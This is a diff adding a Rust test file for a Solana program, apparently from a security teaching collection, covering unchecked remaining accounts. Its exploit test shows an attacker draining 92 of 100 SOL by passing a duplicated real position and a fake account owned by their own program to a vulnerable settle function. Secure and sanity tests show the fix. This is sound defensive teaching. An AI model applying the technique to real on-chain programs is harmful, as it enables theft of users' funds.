@@ -0,0 +1,302 @@
+/// # Pattern 35: Unchecked Remaining Accounts — Mollusk Exploit Tests
+///
+/// The market holds 100 SOL of payouts. The attacker has one real position
+/// paying 1 SOL, plus a fake one: an account owned by their own program,
+/// holding Position bytes that pay 90 SOL. An honest trader has two
+/// positions paying 2 and 3 SOL.
+///
+/// - Test 1: EXPLOIT — settle_vulnerable with [real, real, fake] pays the
+///   attacker 92 SOL.
+/// - Test 2: SECURE — settle_secure refuses the duplicate and the fake, and
+///   pays 1 SOL for the real position alone.
+/// - Test 3: SANITY — the trader settles both positions for 5 SOL.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("BdJBzHQy3UDSSAQMuWHrrzejtbc54ZjSiWpB1Y9EvfWB");
+
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10_000_000_000;
+const SOL: u64 = 1_000_000_000;
+
+/// The market's payout pool.
+const POOL: u64 = 100 * SOL;
+/// What the fake position claims.
+const FAKE_PAYOUT: u64 = 90 * SOL;
+
+// Error codes
+const DUPLICATE_POSITION: u32 = 6000;
+const ACCOUNT_OWNED_BY_WRONG_PROGRAM: u32 = 3007;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Market account:
+///   [8 disc][32 authority][1 bump]
+fn serialize_market(authority: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(41);
+    data.extend_from_slice(&account_discriminator("Market"));
+    data.extend_from_slice(authority.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account:
+///   [8 disc][32 market][32 owner][8 id][8 payout][1 bump]
+fn serialize_position(market: &Pubkey, owner: &Pubkey, id: u64, payout: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(89);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(market.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&id.to_le_bytes());
+    data.extend_from_slice(&payout.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Receipt account:
+///   [8 disc][32 market][32 owner][8 amount][1 bump]
+fn serialize_receipt(market: &Pubkey, owner: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(81);
+    data.extend_from_slice(&account_discriminator("Receipt"));
+    data.extend_from_slice(market.as_ref());
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    Mollusk::new(&PROGRAM_ID, "unchecked_remaining_accounts")
+}
+
+struct Setup {
+    mollusk: Mollusk,
+    market: Pubkey,
+    attacker: Pubkey,
+    /// The attacker's real 1 SOL position.
+    real: Pubkey,
+    /// An account owned by the attacker's program, in Position layout.
+    fake: Pubkey,
+    trader: Pubkey,
+    /// The trader's 2 SOL and 3 SOL positions.
+    trader_positions: [Pubkey; 2],
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let mollusk = new_mollusk();
+        let (market, market_bump) = Pubkey::find_program_address(&[b"market"], &PROGRAM_ID);
+        let authority = Pubkey::new_unique();
+        let attacker = Pubkey::new_unique();
+        let trader = Pubkey::new_unique();
+        let attacker_program = Pubkey::new_unique();
+        let fake = Pubkey::new_unique();
+
+        let mut ledger = vec![
+            (
+                market,
+                owned_account(
+                    &serialize_market(&authority, market_bump),
+                    RENT + POOL,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (
+                fake,
+                owned_account(
+                    &serialize_position(&market, &attacker, 1, FAKE_PAYOUT, 0),
+                    RENT,
+                    &attacker_program,
+                ),
+            ),
+            (attacker, system_account()),
+            (trader, system_account()),
+            (
+                solana_sdk::system_program::ID,
+                executable_account(&solana_sdk::native_loader::id()),
+            ),
+        ];
+
+        let mut position = |owner: &Pubkey, id: u64, payout: u64| {
+            let (key, bump) = Pubkey::find_program_address(
+                &[
+                    b"position",
+                    market.as_ref(),
+                    owner.as_ref(),
+                    &id.to_le_bytes(),
+                ],
+                &PROGRAM_ID,
+            );
+            ledger.push((
+                key,
+                owned_account(
+                    &serialize_position(&market, owner, id, payout, bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ));
+            key
+        };
+        let real = position(&attacker, 0, SOL);
+        let trader_positions = [position(&trader, 0, 2 * SOL), position(&trader, 1, 3 * SOL)];
+
+        for owner in [attacker, trader] {
+            let (receipt, _) = receipt_address(&market, &owner);
+            ledger.push((receipt, AccountSharedData::default()));
+        }
+
+        Self {
+            mollusk,
+            market,
+            attacker,
+            real,
+            fake,
+            trader,
+            trader_positions,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// The receipt `settle_*` writes for `owner`, recording `amount`.
+    fn receipt_data(&self, owner: &Pubkey, amount: u64) -> Vec<u8> {
+        let (_, bump) = receipt_address(&self.market, owner);
+        serialize_receipt(&self.market, owner, amount, bump)
+    }
+
+    /// settle_*() by `owner`, with `positions` as remaining accounts.
+    fn settle(&self, name: &str, owner: &Pubkey, positions: &[Pubkey]) -> Instruction {
+        let (receipt, _) = receipt_address(&self.market, owner);
+        let mut accounts = vec![
+            AccountMeta::new(self.market, false),
+            AccountMeta::new(receipt, false),
+            AccountMeta::new(*owner, true),
+            AccountMeta::new_readonly(solana_sdk::system_program::ID, false),
+        ];
+        accounts.extend(
+            positions
+                .iter()
+                .map(|position| AccountMeta::new_readonly(*position, false)),
+        );
+        Instruction::new_with_bytes(PROGRAM_ID, &ix_discriminator(name), accounts)
+    }
+}
+
+fn receipt_address(market: &Pubkey, owner: &Pubkey) -> (Pubkey, u8) {
+    Pubkey::find_program_address(&[b"receipt", market.as_ref(), owner.as_ref()], &PROGRAM_ID)
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_duplicate_and_fake_positions_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   Attacker: settle_vulnerable() with [real, real, fake]
+    //
+    // Expected: SUCCEEDS. The real position is paid twice and the fake one
+    //           once: 1 + 1 + 90 = 92 SOL out of a 100 SOL pool.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (market, attacker) = (s.market, s.attacker);
+    let (receipt, _) = receipt_address(&market, &attacker);
+    let taken = 2 * SOL + FAKE_PAYOUT;
+
+    let ix = s.settle("settle_vulnerable", &attacker, &[s.real, s.real, s.fake]);
+    let recorded = s.receipt_data(&attacker, taken);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&market)
+                .lamports(RENT + POOL - taken)
+                .build(),
+            Check::account(&receipt).data(&recorded).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_duplicate_and_foreign_positions() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   1. Attacker: settle_secure() with [real, real]
+    //   2. Attacker: settle_secure() with [real, fake]
+    //   3. Attacker: settle_secure() with [real]
+    //
+    // Expected: step 1 FAILS with DuplicatePosition (6000). Step 2 FAILS
+    //           with AccountOwnedByWrongProgram (3007): the fake isn't owned
+    //           by this program. Step 3 SUCCEEDS and pays 1 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (market, attacker) = (s.market, s.attacker);
+    let (receipt, _) = receipt_address(&market, &attacker);
+
+    let ix = s.settle("settle_secure", &attacker, &[s.real, s.real]);
+    s.ledger.step(&s.mollusk, &ix, &[Check::err(ProgramError::Custom(DUPLICATE_POSITION))]);
+
+    let ix = s.settle("settle_secure", &attacker, &[s.real, s.fake]);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(
+            ACCOUNT_OWNED_BY_WRONG_PROGRAM,
+        ))],
+    );
+
+    let ix = s.settle("settle_secure", &attacker, &[s.real]);
+    let recorded = s.receipt_data(&attacker, SOL);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&market).lamports(RENT + POOL - SOL).build(),
+            Check::account(&receipt).data(&recorded).build(),
+        ],
+    );
+}
+
+#[test]
+fn sanity_trader_settles_positions_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   Trader: settle_secure() with both of their positions
+    //
+    // Expected: SUCCEEDS and pays 2 + 3 = 5 SOL.
+    // -----------------------------------------------------------------------
+    let mut s = Setup::new();
+    let (market, trader) = (s.market, s.trader);
+    let (receipt, _) = receipt_address(&market, &trader);
+
+    let ix = s.settle("settle_secure", &trader, &s.trader_positions);
+    let recorded = s.receipt_data(&trader, 5 * SOL);
+    s.ledger.step(
+        &s.mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&market)
+                .lamports(RENT + POOL - 5 * SOL)
+                .build(),
+            Check::account(&receipt).data(&recorded).build(),
+        ],
+    );
+}